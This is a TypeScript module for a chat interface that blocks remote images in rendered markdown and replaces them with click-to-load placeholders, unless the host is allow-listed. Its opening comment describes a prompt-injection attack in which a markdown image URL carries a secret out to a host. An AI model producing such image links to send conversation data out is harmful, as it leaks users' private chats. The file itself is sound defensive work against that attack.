// Images from other hosts in rendered markdown. Loading one tells its host that someone reads
// the chat, and whatever its URL carries: a prompt-injected `![](https://host/?d=<secret>)`
// would leak the conversation the moment it is shown. So the sanitizer never lets a remote
// `src` through: the image becomes a placeholder button that holds the URL. A chat shows
// remote images only from the hosts its app allows (`allowed_image_hosts`, `"*"` for all),
// or from a host the user asked for by clicking a placeholder (for this chat, on this page).
// `data:` and same-origin images are not affected.
import { type Labels, fill } from "./i18n";

export const PLACEHOLDER_CLASS = "cw-remote-image";
/** Where the sanitizer parks a held image's URL until `holdRemoteImages` replaces the image
 * (the sanitizer strips every `data-` attribute of the markup, so only it can set this one). */
export const SRC_ATTR = "data-cw-src";

/** What each placeholder holds; kept off the DOM, so no markup can forge or read it. */
const held = new WeakMap<Element, { src: string; host: string; alt: string }>();

/** The host of an image URL that is not this page's origin, or null for a local one. */
export function remoteHost(src: string): string | null {
  // Resolved as the browser would load it: `//host`, `\\host`, `https:host` all leave the origin.
  let url: URL;
  try {
    url = new URL(src.trim(), document.baseURI);
  } catch {
    return ""; // not a URL the browser could load either: held, with no host to allow
  }
  if (url.protocol === "data:") return null;
  return url.origin === window.location.origin ? null : url.host;
}

/** Whether an app's `allowed_image_hosts` entry covers `host` (`"*"`, `host`, `host:port`, `*.domain`). */
function covers(entry: string, host: string): boolean {
  const e = entry.trim().toLowerCase();
  const h = host.toLowerCase();
  const name = h.replace(/:\d+$/, "");
  if (e === "*" || e === h || e === name) return true;
  return e.startsWith("*.") && name.endsWith(e.slice(1));
}

/** The hosts whose images a chat shows: the app's, and those the user allowed on this page. */
export class ImageHosts {
  private readonly chosen = new Set<string>();
  private readonly listeners = new Set<() => void>();

  allows(host: string, appHosts: unknown): boolean {
    if (this.chosen.has(host.toLowerCase())) return true;
    return Array.isArray(appHosts) && appHosts.some((e) => typeof e === "string" && covers(e, host));
  }

  /** The user asked for this host's images: every view of the chat shows them now. */
  allow(host: string): void {
    if (!host || this.chosen.has(host.toLowerCase())) return;
    this.chosen.add(host.toLowerCase());
    for (const listen of this.listeners) listen();
  }

  subscribe(listen: () => void): () => void {
    this.listeners.add(listen);
    return () => this.listeners.delete(listen);
  }
}

/** Replace every held image of a sanitized fragment by its placeholder (nothing is fetched). */
export function holdRemoteImages(fragment: DocumentFragment): void {
  for (const img of Array.from(fragment.querySelectorAll(`img[${SRC_ATTR}]`))) {
    const src = img.getAttribute(SRC_ATTR) ?? "";
    const host = remoteHost(src) ?? "";
    const alt = img.getAttribute("alt") ?? "";
    const hold = document.createElement("button");
    hold.type = "button";
    hold.className = PLACEHOLDER_CLASS;
    if (alt) hold.title = alt;
    hold.textContent = `Load image from ${host}`;
    held.set(hold, { src, host, alt });
    img.replaceWith(hold);
  }
}

export interface ImageGateOptions {
  hosts: ImageHosts;
  /** The app's `allowed_image_hosts`, read when needed (the option can change). */
  appHosts: () => unknown;
  labels: () => Labels;
  /** A stored thread (the share page): its page forbids remote images, so they open in a tab. */
  readOnly: boolean;
}

/**
 * One view's placeholders: labelled in the chat's language, turned into images for the
 * allowed hosts as they appear (markdown renders over several frames), and a click allows
 * the placeholder's host. Returns nothing to the markdown code: it only watches the DOM.
 */
export class ImageGate {
  private readonly observer: MutationObserver | null = null;
  private readonly stop: () => void;

  constructor(
    private readonly root: HTMLElement,
    private readonly options: ImageGateOptions,
  ) {
    root.addEventListener("click", this.onClick);
    this.stop = options.hosts.subscribe(() => this.refresh());
    if (typeof MutationObserver !== "undefined") {
      this.observer = new MutationObserver((records) => {
        for (const r of records) for (const n of Array.from(r.addedNodes)) if (n instanceof Element) this.visit(n);
      });
      this.observer.observe(root, { childList: true, subtree: true });
    }
  }

  /** Every placeholder again (the allowed hosts or the language changed). */
  refresh(): void {
    this.visit(this.root);
  }

  dispose(): void {
    this.observer?.disconnect();
    this.root.removeEventListener("click", this.onClick);
    this.stop();
  }

  private visit(node: Element): void {
    const found = node.classList.contains(PLACEHOLDER_CLASS) ? [node] : Array.from(node.getElementsByClassName(PLACEHOLDER_CLASS));
    for (const hold of found) if (hold instanceof HTMLButtonElement) this.settle(hold);
  }

  private settle(hold: HTMLButtonElement): void {
    const image = held.get(hold);
    if (!image) return; // not one of ours
    const { src, host, alt } = image;
    const { hosts, readOnly } = this.options;
    if (!readOnly && host && hosts.allows(host, this.options.appHosts())) {
      const img = document.createElement("img");
      img.referrerPolicy = "no-referrer";
      img.alt = alt;
      img.src = src;
      hold.replaceWith(img);
      return;
    }
    const labels = this.options.labels();
    hold.textContent = fill(readOnly ? labels.openRemoteImage : labels.loadImage, { host: host || "?" });
  }

  private readonly onClick = (event: Event) => {
    const hold = event.target instanceof Element ? event.target.closest(`button.${PLACEHOLDER_CLASS}`) : null;
    const image = hold ? held.get(hold) : undefined;
    if (!hold || !image || !this.root.contains(hold)) return;
    event.preventDefault();
    event.stopPropagation();
    if (this.options.readOnly) window.open(image.src, "_blank", "noopener,noreferrer");
    else this.options.hosts.allow(image.host);
  };
}
